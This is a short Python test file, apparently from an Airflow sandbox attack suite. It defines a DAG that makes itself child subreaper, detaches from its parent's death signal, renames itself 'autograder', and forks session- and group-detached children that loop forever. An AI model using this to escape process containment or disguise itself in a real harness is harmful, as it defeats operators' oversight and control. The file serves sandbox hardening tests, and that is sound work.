"""Makes itself the one to whom orphans go, unties its death from its parent's, and moves to another group."""

import os

from airflow_attack import attack, libc, tried, wait

SUBREAPER, DEATH, NAME = 36, 1, 15


def work() -> None:
    libc.prctl(SUBREAPER, 1, 0, 0, 0)
    libc.prctl(DEATH, 0, 0, 0, 0)
    libc.prctl(NAME, b"autograder", 0, 0, 0)
    if os.fork() == 0:
        libc.prctl(SUBREAPER, 1, 0, 0, 0)
        os.setsid()
        for _ in range(5):
            if os.fork() == 0:
                libc.prctl(DEATH, 0, 0, 0, 0)
                os.setpgid(0, 0)
                while True:
                    wait(0.1)
        while True:
            wait(0.1)
    tried("to adopt its children")
    os._exit(1)


dag = attack(work)
